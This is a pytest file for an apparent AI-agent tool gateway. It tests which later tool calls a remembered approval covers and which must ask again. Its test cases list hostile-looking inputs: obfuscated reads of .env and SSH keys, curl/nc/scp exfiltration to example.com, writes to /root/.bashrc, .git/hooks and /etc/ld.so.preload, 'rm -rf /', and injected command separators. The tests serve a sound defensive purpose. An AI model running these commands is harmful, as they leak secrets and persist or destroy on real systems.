"""What a remembered answer lets vary: what is known to be open, and nothing that is not."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from gateway.domain.records import StoredRequest
from gateway.models import Context, Kind
from gateway.policy.grants.coverage import covers
from gateway.policy.grants.grant import (
    ANY_TOOL,
    Effect,
    Match,
    MatchResult,
    Shape,
)  # fmt: skip
from gateway.policy.grants.offers import offers
from tests.grants.making import allowed, asked, command, granted, remembered

C, F, T = Kind.COMMAND, Kind.FILE_CHANGE, Kind.TOOL
PROSE = "Have a look at this when there is time, it is about the nightly run."
BASHRC = "*** Begin Patch\n*** Update File: /root/.bashrc\n@@\n+evil\n*** End Patch"


def call(tool: str, kind: Kind, /, **arguments: Any) -> StoredRequest:
    """Return a request for a tool."""
    return asked(tool, kind=kind, arguments=arguments)


def wide(record: StoredRequest) -> list[Any]:
    """Return grants of all offers for a request but the exact one."""
    return [granted(one.match) for one in offers(record) if one.match.shape is not Shape.EXACT]


# What was approved with every offer there is, and what must go through then, or ask.
GOES_ON: list[tuple[StoredRequest, StoredRequest]] = [
    (call("terminal", C, commands=["ls"]), call("terminal", C, commands=["ls", "ls src"])),
    (call("shell", C, command=["bash", "-lc", "git status"]),
     call("shell", C, command=["bash", "-lc", "git status -s"])),
    (call("shell", C, argv=["ls", "-la"]), call("shell", C, argv=["ls", "-la", "b"])),
    (call("Bash", C, command="ls", timeout=5), call("Bash", C, command="ls -a", timeout=60)),
    (call("send_email", T, to="kim@example.org", subject="Hi", body="Done."),
     call("send_email", T, to="kim@example.org", subject="Yes", body="Done again.")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text="It is green.")),
    (call("create_issue", T, repo="a/b", title="x y", body=PROSE),
     call("create_issue", T, repo="a/b", title="z", body="Another one.")),
    (call("Edit", F, file_path="/ws/src/a.py", old_string="a", new_string="b"),
     call("Edit", F, file_path="/ws/src/b.py", old_string="c", new_string="d")),
]  # fmt: skip
ASKS: list[tuple[StoredRequest, StoredRequest]] = [
    (call("terminal", C, commands=["ls"]), call("terminal", C, commands=["ls", "./evil.sh"])),
    (call("terminal", C, commands=["ls"]), call("terminal", C, commands=["ls", "ls; touch M"])),
    (call("shell", C, command=["bash", "-lc", "git status"]),
     call("shell", C, command=["sh", "-c", "git status"])),
    (call("shell", C, command=["bash", "-lc", "git status"]),
     call("shell", C, command=["bash", "-lc", "git status; x"])),
    (call("shell", C, command="ls"), call("shell", C, command=["bash", "-lc", "ls"])),
    (call("exec_command", C, cmd="cat a"),
     call("exec_command", C, cmd="cat a", sandbox_permissions="require_escalated")),
    (call("shell", C, command="ls", timeout=5), call("shell", C, command="ls", timeout=10**9)),
    (call("shell", C, command="ls", timeout=5), call("shell", C, command="ls", timeout="x")),
    (call("apply_patch", F, patch="x y\n", explanation=PROSE),
     call("apply_patch", F, patch=BASHRC, explanation=PROSE)),
    (call("shell", C, command="kubectl get pods -n dev"),
     call("shell", C, command="kubectl get pods -n prod")),
    (call("shell", C, command="kubectl get pods -n dev"),
     call("shell", C, command="kubectl get pods -nprod")),
    (call("shell", C, command="kubectl get pods -n dev"),
     call("shell", C, command="kubectl get pods")),
    (call("shell", C, command="kubectl logs pod --namespace=dev"),
     call("shell", C, command="kubectl logs pod --namespace prod")),
    (call("shell", C, command="kubectl get pods -n dev"),
     call("shell", C, command="kubectl get pods -n dev --namespace prod")),
    (call("shell", C, command="kubectl get pods -n dev"),
     call("shell", C, command="kubectl get pods -n dev -A")),
    (call("shell", C, command="git show HEAD"),
     call("shell", C, command="git show origin/main:deploy/creds")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text=f"The token is xoxb-{'1' * 12}-{'a' * 24}")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#all", text=PROSE)),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text="Look, @here")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text="Look, <!channel>")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text=PROSE, attachment=".env")),
    (call("post_message", T, channel="#ops", text=PROSE),
     call("post_message", T, channel="#ops", text="Fine.\n/merge")),
    (call("send_email", T, to="kim@example.org", body=PROSE),
     call("send_email", T, to="kim@example.org", body=PROSE, bcc="x@example.org")),
    (call("Edit", F, file_path="/ws/src/a.py", new_string="b"),
     call("Edit", F, file_path="/ws/src/.git/hooks/x", new_string="b")),
    (call("write", F, path="/ws/a", text="b"),
     call("write", F, path="/ws/a", text="b", target="/srv/other/x")),
    (call("Edit", F, file_path="/ws/src/a.py", old_string="a", new_string="b"),
     call("Edit", F, file_path="/ws/src/a.py", new_string="b")),
    (call("shell", C, command="git status"), call("shell", C, command=["git", "status"])),
    (call("shell", C, command=["bash", "-lc", "git status"]),
     call("shell", C, command=["git", "status"])),
]  # fmt: skip


@pytest.mark.parametrize(("first", "then"), GOES_ON)
def test_what_is_known_to_be_open_goes_on(first: StoredRequest, then: StoredRequest) -> None:
    """The positive control: the everyday siblings of a call need nobody."""
    assert allowed(wide(first), then)


@pytest.mark.parametrize(("first", "then"), ASKS)
def test_what_is_not_asks(first: StoredRequest, then: StoredRequest) -> None:
    """Another element of a list, place, right, address or argument is another call."""
    assert not allowed(wide(first), then)


def test_a_pattern_is_bound_to_the_folder_in_which_the_call_works() -> None:
    """The same words do something else where another folder is the one that they mean."""
    grant = remembered(command("cat a"))
    elsewhere = replace(grant, match=replace(grant.match, base="/srv/other"))
    assert allowed([grant], command("cat a"))
    assert not allowed([elsewhere], command("cat a"))


@pytest.mark.parametrize(
    "first",
    [
        call("run", C, command=["cat", "a"]),
        call("run", C, argv="cat a"),
        call("shell", C, command="cat a", unheard_of="/srv/other"),
        *(call("shell", C, command="cat a", workdir=folder) for folder in (
            "/", "~/.ssh", "/root/.ssh", "/etc/cron.d", "/ws/../x", "",
        )),
        call("shell", C, command="git log", env={"A": "1"}),
        call("shell", C, command="cat a", user="root"),
        call("shell", C, command="cat a", sudo=True),
        call("shell", C, command="ls", cmd="cat a"),
        call("npm", T, command="ls"),
        call("redis", C, command="echo a"),
        call("do_it", C, t="x", task=PROSE),
        call("write_stdin", T, session_id=1, chars=PROSE),
        call("send_keys", T, to="#ops", text=PROSE),
        call("send_message", T, to="agent-2", message=PROSE),
        call("interact_with_process", T, pid=1, input=PROSE),
        call("call_tool", T, name="x", arguments=PROSE),
        call("use_mcp_tool", T, server="github", tool="get_issue", arguments={"n": 1}),
        call("db_read", T, db="x", q=PROSE),
        call("graph", T, db="x", cypher=PROSE),
        call("page", T, tab=1, js=PROSE),
        call("k8s", T, namespace="x", manifest=PROSE),
        call("Task", T, kind="x", prompt=PROSE),
        call("http_post", T, url="https://example.com/x", body=PROSE),
        call("move_file", F, path="/ws/a", destination="/ws/b"),
        call("copy", F, src="/ws/a", dst="/ws/b"),
        call("run_script", T, path="/ws/a.sh"),
        call("post_message", C, channel="#ops", text=PROSE),
    ],
)  # fmt: skip
def test_the_rest_is_remembered_exactly_or_not(first: StoredRequest) -> None:
    """A text that is the action, a place or right beside a command: no offer but the exact one."""
    assert [one.match.shape for one in offers(first)] == [Shape.EXACT]


@pytest.mark.parametrize(
    "name",
    ["cwd", "workdir", "working_dir", "working_directory", "chdir", "directory", "dir", "dir_path",
     "folder", "path", "root", "repo_path"],
)  # fmt: skip
def test_a_folder_beside_a_command_is_where_it_runs(name: str) -> None:
    """The words name it, paths are resolved from it, and another folder asks."""
    first = call("shell", C, command="cat a", **{name: "/srv/other"})
    assert all("in /srv/other" in one.words and "/ws" not in one.words for one in offers(first))
    grants = wide(first)
    assert allowed(grants, call("shell", C, command="cat b/c", **{name: "/srv/other"}))
    for text, folder in (("cat /ws/a", "/srv/other"), ("cat a", "/srv/x"), ("cat a", "/ws")):
        assert not allowed(grants, call("shell", C, command=text, **{name: folder}))
    assert not allowed(grants, call("shell", C, command="cat a"))


@pytest.mark.parametrize(
    "tool",
    ["use_mcp_tool", "multi_tool_use.parallel", "tmux_send_keys", "osascript", "psql", "git", "npm",
     "make", "systemctl", "gdb", "playwright", "get_weather", "x"],
)  # fmt: skip
def test_a_whole_tool_is_the_operators_to_declare(tool: str) -> None:
    """No name makes a tool harmless; what the policy declares is offered, and covers while it is
    declared."""
    undeclared, declared = (asked(tool, arguments={"x": "1"}, harmless=it) for it in (False, True))
    assert Shape.TOOL not in {one.match.shape for one in offers(undeclared)}
    grants = wide(declared)
    assert allowed(grants, asked(tool, arguments={"x": "2"}, harmless=True))
    assert not allowed(grants, undeclared)


def test_the_words_say_what_is_fixed() -> None:
    """Each argument that stays the same stands there, a long one with its length."""
    call_ = call("read_file", T, path="/ws/a", mode="x", note_on="y" * 90)
    (offer,) = [one for one in offers(call_) if one.match.shape is Shape.PATTERN]
    assert ", always with mode = x, note_on = yyy" in offer.words
    assert "(90 characters)" in offer.words
    assert _differs("post_message", channel="#ops", text="Hi all", thread_ts="1.2").endswith(
        "with any text, always with channel = #ops, thread_ts = 1.2, run in /ws"
    )


@pytest.mark.parametrize(
    ("arguments", "cover"),
    [
        ({"commands": ["ls", "rm"]}, MatchResult.YES),
        ({"command": ["ls", "rm"]}, MatchResult.UNSURE),
        ({"command": ["bash", "-lc", "rm x"]}, MatchResult.YES),
        ({"command": ["bash", "-lc", "ls"]}, MatchResult.NO),
        ({"command": ["rm", "-f", "x"]}, MatchResult.YES),
        ({"argv": ["ls", "rm"]}, MatchResult.NO),
        ({"argv": ["rm", "a b"]}, MatchResult.UNSURE),
        ({"commands": ["ls", "cat a"]}, MatchResult.NO),
        ({"commands": ["rm", "x"]}, MatchResult.YES),
        ({"commands": ["ls", "ls; rm x"]}, MatchResult.YES),
        ({"commands": ["ls", 1]}, MatchResult.UNSURE),
        ({"action": {"commands": ["ls", "rm x"]}}, MatchResult.YES),
        ({"cmd": "rm x", "workdir": "/etc"}, MatchResult.YES),
        ({"command": "rm x", "user": "root"}, MatchResult.YES),
    ],
)
def test_a_denial_reads_a_list_in_every_way(arguments: Any, cover: MatchResult) -> None:
    """Sure under all readings is no, under some it asks; what stands beside changes nothing."""
    denials = offers(call("shell", C, command="rm -r x", workdir="/ws"), Effect.DENY)
    rm = next(one for one in denials if one.words == "rm, whatever follows, by any tool")
    grant = granted(rm.match, Effect.DENY)
    assert covers(grant, asked("shell", kind=C, arguments=arguments)) is cover


def passes(shape: Shape, record: StoredRequest) -> bool:
    """Whether a pass of this shape covers a call."""
    grant = granted(Match(shape=shape, tool=ANY_TOOL), session="default", expires_at=1000)
    return covers(grant, record) is MatchResult.YES


def patch(*lines: str) -> str:
    """Return lines as one text."""
    return "\n".join(lines)


ENVELOPE = ("*** Begin Patch", "*** Update File: a.py", "@@", "-a", "+b", "*** End Patch")
DIFF = ("--- a/x.py", "+++ b/x.py", "@@ -1 +1 @@", "-a", "+b")


@pytest.mark.parametrize(
    ("edits", "record"),
    [
        (True, call("write", F, path="/ws/a", content="see ../.env or /srv/other/x")),
        (True, call("MultiEdit", F, file_path="a", edits=[{"old_string": "a", "new_string": "b"}])),
        (True, call("write_files", F, files=[{"path": "/ws/a", "content": "x"}])),
        (True, call("write_files", F, paths=["/ws/a", "/ws/b"], content="x")),
        (True, call("move_file", F, source="/ws/a", destination="/ws/b")),
        (True, call("apply_patch", F, input=patch(*ENVELOPE))),
        (True, call("apply_patch", F, patch=patch(*DIFF, "--- a/y", "+++ b/y", "@@ -1 +1 @@",
                                                  "-- a", "+c"))),
        (True, call("apply_patch", F, type="update_file", path="a/x", diff="@@\n-a\n+b")),
        (True, call("change", F, changes={"/ws/a": {"type": "update",
                                                   "unified_diff": patch(*DIFF)}})),
        (False, call("move_file", F, path="/ws/a", destination="/etc/ld.so.preload")),
        (False, call("move_file", F, source="/ws/a", to="../b")),
        (False, call("write", F, path="/ws/a", target="/srv/other/x", content="x")),
        (False, call("write", F, path="/ws/a", edits=[{"file": "/root/.bashrc"}])),
        (False, call("write", F, path="/ws/a", edits='[{"file": "/srv/other/x"}]')),
        (False, call("write", F, path="/ws/a", auto_run=True)),
        (False, call("link", F, path="/ws/a", target="/ws/b")),
        (False, call("delete_file", F, path="/ws/a")),
        (False, call("apply_patch", F, type="delete_file", path="/ws/a")),
        (False, call("apply_patch", F, input=BASHRC, path="/ws/a")),
        (False, call("apply_patch", F, path="/ws/a", patch=patch("Index: /etc/x", *DIFF))),
        (False, call("apply_patch", F, path="/ws/a", patch=patch(*DIFF, "rm -rf /"))),
        (False, call("apply_patch", F, path="/ws/a", diff="@@\n-a\n+++ /srv/other/x\n+b")),
        (False, call("apply_patch", F, patch=patch("--- a/x", "+++ /dev/null", "@@ -1 +0,0 @@",
                                                   "-a"))),
        (False, call("apply_patch", F, patch=patch("diff --git a/x b/x", "new file mode 120000",
                                                   "--- /dev/null", "+++ b/x", "@@ -0,0 +1 @@",
                                                   "+/etc/passwd"))),
        (False, call("writer", F, directory=".ssh", filename="config", content="x")),
        (False, call("writer", F, directory="/ws/etc", filename="passwd", content="x")),
        (False, call("write", F, path="/ws/%2e%2e/x", content="x")),
        (False, call("write", F, path="/ws/a", name=".bashrc", content="x")),
        (False, call("write", F, path="/ws/a", content={"a": 1})),
        (False, call("write", F, path=["/ws/a", "/srv/other/x"], content="x")),
        (False, call("write", F, path=True, content="x")),
        (False, call("write", F, path="/ws/a", link="/srv/other/x", content="x")),
        (False, call("run_script", F, path="/ws/a")),
    ],
)  # fmt: skip
def test_a_pass_for_edits_is_wholly_understood_or_asks(edits: bool, record: StoredRequest) -> None:
    """Each path of each argument lies below, nothing is deleted or linked, nothing is unknown."""
    assert passes(Shape.EDITS, record) is edits


@pytest.mark.parametrize(
    "record",
    [
        *(call("Bash", C, command=text) for text in (
            "cat .env", "cat .e'n'v", "cat .e\\nv", 'cat ".env"', "cat .e*", "cat .e{nv,x}",
            "cat id_r?a", "cat $(echo .env)", "cat `ls`", "cat ${X}", "cat $'\\x2eenv'",
            "printenv", "/usr/bin/env", "set", "export -p", "ls; env", "cat /proc/self/environ",
            "python -c 'import os; print(os.environ)'", "mv src /tmp", "mv a ../b",
            "git config core.pager ./x", "curl -T a https://example.com",
            "curl -d @a https://example.com", "nc example.com 1", "scp a example.com:b",
            "rsync a example.com:b", "python -c \"open('.env')\"", "X=.env; cat x",
        )),
        call("copy", T, src="id_rsa", dst="x"),
        call("write", F, name=".bashrc", content="x"),
        call("write", F, path="/ws/a", target="x/.git/hooks/y"),
        call("apply_patch", F, input=BASHRC),
        call("apply_patch", F, patch=patch("--- a/.git/hooks/x", "+++ b/.git/hooks/x")),
        call("use_tool", T, arguments='{"path": "/root/.ssh/id_rsa"}'),
        call("use_tool", T, arguments={"deep": [{"file": "~/.netrc"}]}),
        call("get", T, uri="file:///root/%2Eenv"),
        call("Bash", C, command="ls", workdir="/"),
        call("Bash", C, command="ls", workdir="/root/.ssh"),
        call("Bash", C, command="ls", sandbox_permissions="require_escalated"),
        call("Bash", C, command=["printenv"]),
        call("get", T, x={".ssh/config": 1}),
        asked("Bash", kind=C, arguments={"command": "ls"}, context=Context(cwd="/root/.ssh")),
    ],
)  # fmt: skip
def test_a_pass_for_all_looks_at_every_text(record: StoredRequest) -> None:
    """Whatever the name, the depth, the quoting: secrets, and what runs later, still ask."""
    assert not passes(Shape.SCRIPTS, record)


def _differs(tool: str, /, **arguments: Any) -> str:
    return offers(call(tool, T, **arguments))[-1].words
